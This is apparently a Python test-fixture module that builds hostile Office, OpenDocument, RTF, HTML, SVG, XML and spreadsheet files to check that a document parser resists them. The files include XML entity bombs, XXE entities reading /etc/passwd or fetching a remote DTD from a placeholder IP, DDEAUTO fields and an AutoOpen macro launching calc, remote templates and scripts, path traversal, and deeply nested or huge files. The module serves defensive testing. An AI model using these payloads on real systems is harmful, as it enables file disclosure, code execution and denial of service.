"""Office documents and pages with references to the network, macros, entities, and depths nobody writes by hand."""

from __future__ import annotations

from collections.abc import Iterator

from tests.hostile.traps import Trap, package

_TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
    'wordprocessingml.document.main+xml"/></Types>'
)
_RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_W = (
    'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
    f'xmlns:r="{_RELATIONS}" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"'
)
_ODF = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
    'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" '
    'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0"'
)
LAUGHS = (
    '<!DOCTYPE z [<!ENTITY a "hahahahahahahaha">'
    + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(12))
    + "]>"
)
QUADRATIC = f'<!DOCTYPE z [<!ENTITY a "{"x" * 60_000}">]>'
OUTSIDE = '<!DOCTYPE z [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
REMOTE = '<!DOCTYPE z [<!ENTITY % d SYSTEM "http://203.0.113.7/x.dtd"> %d; <!ENTITY a SYSTEM "http://203.0.113.7/x">]>'
PROLOGUES = {"laughs": LAUGHS, "quadratic": QUADRATIC, "outside": OUTSIDE, "remote": REMOTE}


def traps(host: str = "203.0.113.7") -> Iterator[Trap]:
    """All of them; what refers to the network refers to `host` (RFC 5737: an address of nobody)."""
    yield from _entities()
    yield from _references(f"http://{host}")
    yield from _depths()
    yield from _amounts()


def docx(body: str, prologue: str = "", **parts: str) -> bytes:
    """A Word document of this body; `parts` are further ones, "__" for "/"."""
    document = f'<?xml version="1.0"?>{prologue}<w:document {_W}><w:body>{body}</w:body></w:document>'
    more = {name.replace("__", "/"): data for name, data in parts.items()}
    return package({"[Content_Types].xml": _TYPES, "word/document.xml": document} | more)


def odt(body: str, prologue: str = "", more: dict[str, str] | None = None) -> bytes:
    """An OpenDocument text of this body."""
    content = f'<?xml version="1.0"?>{prologue}<office:document-content {_ODF}><office:body><office:text>{body}'
    content += "</office:text></office:body></office:document-content>"
    parts = {"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": content}
    return package(parts | {"META-INF/manifest.xml": "<m/>"} | (more or {}))


def word(text: str) -> str:
    """A paragraph of Word."""
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def _entities() -> Iterator[Trap]:
    for name, prologue in PROLOGUES.items():
        used = "&a;" * 10_000 if name == "quadratic" else "&m;" if name == "laughs" else "&a;"
        yield Trap.of(f"{name}.docx", docx(word(used), prologue))
        yield Trap.of(f"{name}.odt", odt(f"<text:p>{used}</text:p>", prologue))
        yield Trap.of(f"{name}.svg", _svg(f"<text>{used}</text>", prologue))
        yield Trap.of(f"{name}.xml", f'<?xml version="1.0"?>{prologue}<a>{used}</a>'.encode())
        yield Trap.of(f"{name}.html", f"{prologue}<html><body><p>{used}</p></body></html>".encode())
        yield Trap.of(f"{name}.fodt", _flat(used, prologue))


def _references(host: str) -> Iterator[Trap]:
    relations = (
        f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="r1" Type="{_RELATIONS}/image" Target="{host}/a.png" TargetMode="External"/>'
        f'<Relationship Id="r2" Type="{_RELATIONS}/attachedTemplate" Target="{host}/t.dotm" TargetMode="External"/>'
        f'<Relationship Id="r3" Type="{_RELATIONS}/image" Target="../../../../etc/passwd"/>'
        f'<Relationship Id="r4" Type="{_RELATIONS}/oleObject" Target="file:///etc/passwd" TargetMode="External"/>'
        "</Relationships>"
    )
    fields = (
        f'<w:p><w:fldSimple w:instr=" INCLUDEPICTURE &quot;{host}/i.png&quot; \\d "><w:r><w:t>x</w:t></w:r>'
        '</w:fldSimple></w:p><w:p><w:fldSimple w:instr="DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot;">'
        '<w:r><w:t>y</w:t></w:r></w:fldSimple></w:p><w:p><w:r><w:drawing><a:blip r:embed="r1" r:link="r1"/></w:drawing>'
        '<w:drawing><a:blip r:embed="r3"/></w:drawing></w:r></w:p>'
    )
    yield Trap("remote.docx", lambda: docx(word("Text") + fields, word___rels__document_xml_rels_="",
                                           **{"word___rels__document.xml.rels": relations}))  # fmt: skip
    yield Trap("macro.docm", lambda: docx(word("Text"), word__vbaProject_bin_='Sub AutoOpen()\nShell "calc"\nEnd Sub'))
    image = f'<text:p>Text<draw:frame><draw:image xlink:href="{host}/a.png"/></draw:frame></text:p>'
    script = f'<office:scripts><office:script script:language="ooo:Basic"/></office:scripts><text:p>{"a"}</text:p>'
    object_ = f'<text:p><draw:frame><draw:object xlink:href="{host}/o.odf"/><draw:plugin xlink:href="{host}/p"/></draw:frame></text:p>'
    section = f'<text:section><text:section-source xlink:href="{host}/s.odt"/><text:p>b</text:p></text:section>'
    dde = '<text:p><text:dde-connection text:connection-name="a"/>c</text:p>'
    yield Trap("remote.odt", lambda: odt(image + script + object_ + section + dde, more={"Basic/a.xml": "<a/>"}))
    yield Trap("remote.html", lambda: _page(host).encode())
    yield Trap("remote.svg", lambda: _svg(
        f'<script>fetch("{host}")</script><image xlink:href="{host}/a.png"/><use xlink:href="{host}/b.svg#c"/>'
        f'<style>@import url({host}/c.css);</style><text onclick="x()">Text</text>'))  # fmt: skip
    yield Trap("remote.rtf", lambda: (
        r"{\rtf1\ansi Text {\field{\*\fldinst INCLUDEPICTURE " f'"{host}/a.png"' r" \\d}{\fldrslt a}}"
        r"{\field{\*\fldinst HYPERLINK " f'"{host}"' r"}{\fldrslt odkaz}}{\*\template " f"{host}/t.dotm" r"}"
        r"{\object\objautlink\objupdate{\*\objclass Word.Document}{\*\objdata 0105000002000000}{\result x}}"
        r"{\field{\*\fldinst DDEAUTO cmd.exe " '"/c calc"' r"}}}").encode())  # fmt: skip
    yield Trap("remote.fodt", lambda: _flat(f'</text:p><text:p><draw:image xlink:href="{host}/a.png"/>'))
    yield Trap("remote.xlsx", lambda: _xlsx(f'<c r="A1" t="str"><f>WEBSERVICE("{host}/w")</f><v>=1+1</v></c>'))
    yield Trap(
        "remote.md", lambda: f"# Zapis\n![a]({host}/a.png)\n<img src='{host}/b.png'>\n[c](javascript:x)".encode()
    )


def _page(host: str) -> str:
    return (
        f'<html><head><title>Zapis</title><meta http-equiv="refresh" content="0;url={host}"><base href="{host}">'
        f'<link rel="stylesheet" href="{host}/a.css"><style>@import "{host}/b.css";p{{background:url({host}/c)}}</style>'
        f'<script src="{host}/d.js"></script></head><body onload="x()" background="{host}/e.png"><p>Text zapisu</p>'
        f'<img src="{host}/f.png" srcset="{host}/g.png 2x" onerror="x()"><img src="file:///etc/passwd">'
        f'<iframe src="{host}/h"></iframe><object data="{host}/i"></object><embed src="{host}/j"><video poster="{host}/k">'
        f'</video><svg><image href="{host}/l"/></svg><form action="{host}/m"><input type="image" src="{host}/n"></form>'
        f'<a href="javascript:x()">o</a><div style="background-image:url({host}/p)">q</div><table background="{host}/r">'
        f"</table><img src='\\\\203.0.113.7\\share\\s.png'></body></html>"
    )


def _depths() -> Iterator[Trap]:
    deep = 100_000
    yield Trap(
        "deep.docx", lambda: docx("<w:tbl><w:tr><w:tc>" * 20_000 + word("dno") + "</w:tc></w:tr></w:tbl>" * 20_000)
    )
    yield Trap(
        "deep-small.docx", lambda: docx("<w:tbl><w:tr><w:tc>" * 80 + word("dno") + "</w:tc></w:tr></w:tbl>" * 80)
    )
    yield Trap("deep.odt", lambda: odt("<text:list><text:list-item>" * deep + "<text:p>dno</text:p>"))
    yield Trap("deep-small.odt", lambda: odt("<text:section>" * 240 + "<text:p>dno</text:p>" + "</text:section>" * 240))
    yield Trap("deep.html", lambda: b"<html><body>" + b"<div>" * deep + b"dno")
    yield Trap("deep-tables.html", lambda: b"<table><tr><td>" * 5000 + b"dno")
    yield Trap("deep-lists.html", lambda: b"<ul><li>" * 5000 + b"dno")
    yield Trap("deep-spans.html", lambda: b"<b><i><font>" * 30_000 + b"dno")
    yield Trap("deep.xml", lambda: b"<?xml version='1.0'?>" + b"<a>" * deep + b"dno")
    yield Trap("deep.svg", lambda: _svg("<g>" * deep + "<text>dno</text>"))
    yield Trap("deep.json", lambda: b"[" * 1_000_000)
    yield Trap("deep.rtf", lambda: b"{\\rtf1 " + b"{" * 1_000_000 + b"dno")
    yield Trap(
        "deep-tables.rtf", lambda: b"{\\rtf1 " + b"".join(b"\\itap%d\\intbl x" % n for n in range(20_000)) + b"}"
    )
    yield Trap("closed.rtf", lambda: b"{\\rtf1 a" + b"}" * 1_000_000)
    yield Trap("words.rtf", lambda: b"{\\rtf1 " + b"\\b\\i0\\par " * 600_000 + b"}")
    yield Trap("unicode.rtf", lambda: b"{\\rtf1\\uc2000000000 " + b"\\u-99999999?" * 100_000 + b"}")
    yield Trap("bin.rtf", lambda: b"{\\rtf1 a\\bin2147483647 b\\bin-5 c{\\*\\x\\bin999999999 }d}")
    yield Trap("deep.md", lambda: b"> " * 50_000 + b"dno\n" + b"".join(b" " * n + b"- a\n" for n in range(1500)))


def _amounts() -> Iterator[Trap]:
    yield Trap("huge.docx", lambda: docx(word("x" * 110_000_000)))
    yield Trap("many.docx", lambda: docx(word("a") * 1_500_000))
    yield Trap("wide.docx", lambda: docx("<w:tbl><w:tr>" + "<w:tc><w:p/></w:tc>" * 300_000 + "</w:tr></w:tbl>"))
    yield Trap("spaces.odt", lambda: odt('<text:p><text:s text:c="999999999"/>a</text:p>' * 5000))
    yield Trap("columns.ods", lambda: _ods('<table:table-cell table:number-columns-repeated="1048576"><text:p>a</text:p>'
                                           "</table:table-cell>", 'table:number-rows-repeated="1048576"'))  # fmt: skip
    yield Trap("corner.xlsx", lambda: _xlsx('<c r="XFD1048576"><v>1</v></c>'))
    yield Trap("cells.xlsx", lambda: _xlsx('<c r="A1"><v>1</v></c>' * 1_500_000))
    yield Trap("attributes.html", lambda: b"<p " + b" ".join(b"a%d=1" % n for n in range(300_000)) + b">text</p>")
    yield Trap(
        "colspan.html", lambda: b"<table><tr><td colspan=1000000000 rowspan=1000000000>a</td></tr></table>" * 500
    )
    yield Trap("unclosed.html", lambda: b"<p><b>text" * 200_000)
    yield Trap("styles.odt", lambda: odt("<text:p>a</text:p>", more={"styles.xml": _cyclic_styles()}))
    yield Trap("numbering.docx", lambda: docx(word("a"), **{"word__styles.xml": _cyclic_word_styles()}))
    yield Trap("lists.docx", lambda: docx(
        '<w:p><w:pPr><w:numPr><w:ilvl w:val="8"/><w:numId w:val="1"/></w:numPr></w:pPr><w:r><w:t>a</w:t></w:r></w:p>' * 5000,
        **{"word__numbering.xml": f'<w:numbering {_W}><w:abstractNum w:abstractNumId="1"><w:lvl w:ilvl="8"><w:start '
           'w:val="2147483647"/><w:numFmt w:val="lowerRoman"/><w:lvlText w:val="%9%9%9%9"/></w:lvl></w:abstractNum>'
           '<w:num w:numId="1"><w:abstractNumId w:val="1"/></w:num></w:numbering>'}))  # fmt: skip


def _cyclic_styles() -> str:
    return (
        f'<office:document-styles {_ODF} xmlns:style="urn:oasis:names:tc:opendocument:xmlns:style:1.0"><office:styles>'
        '<style:style style:name="A" style:family="paragraph" style:parent-style-name="B"/><style:style style:name="B" '
        'style:family="paragraph" style:parent-style-name="A"/></office:styles></office:document-styles>'
    )


def _cyclic_word_styles() -> str:
    return (
        f'<w:styles {_W}><w:style w:type="paragraph" w:default="1" w:styleId="A"><w:basedOn w:val="B"/></w:style>'
        '<w:style w:type="paragraph" w:styleId="B"><w:basedOn w:val="A"/></w:style></w:styles>'
    )


def _svg(body: str, prologue: str = "") -> bytes:
    space = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
    return f'<?xml version="1.0"?>{prologue}<svg {space} width="99999999" height="99999999">{body}</svg>'.encode()


def _flat(body: str, prologue: str = "") -> bytes:
    return (
        f'<?xml version="1.0"?>{prologue}<office:document {_ODF} office:mimetype="application/vnd.oasis.opendocument.'
        f'text"><office:body><office:text><text:p>{body}</text:p></office:text></office:body></office:document>'
    ).encode()


def _ods(cells: str, row: str) -> bytes:
    body = f"<table:table table:name='a'><table:table-row {row}>{cells}</table:table-row></table:table>"
    content = f"<office:document-content {_ODF}><office:body><office:spreadsheet>{body}</office:spreadsheet>"
    content += "</office:body></office:document-content>"
    return package({"mimetype": "application/vnd.oasis.opendocument.spreadsheet", "content.xml": content,
                    "META-INF/manifest.xml": "<m/>"})  # fmt: skip


def _xlsx(cells: str) -> bytes:
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    return package({
        "[Content_Types].xml": '<Types><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats'
        '-officedocument.spreadsheetml.sheet.main+xml"/></Types>',
        "xl/workbook.xml": f'<workbook xmlns="{main}" xmlns:r="{_RELATIONS}"><sheets><sheet name="a" sheetId="1" r:id="r1"/>'
        "</sheets></workbook>",
        "xl/_rels/workbook.xml.rels": '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="r1" Type="{_RELATIONS}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
        "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{main}"><sheetData><row r="1">{cells}</row></sheetData></worksheet>',
    })  # fmt: skip
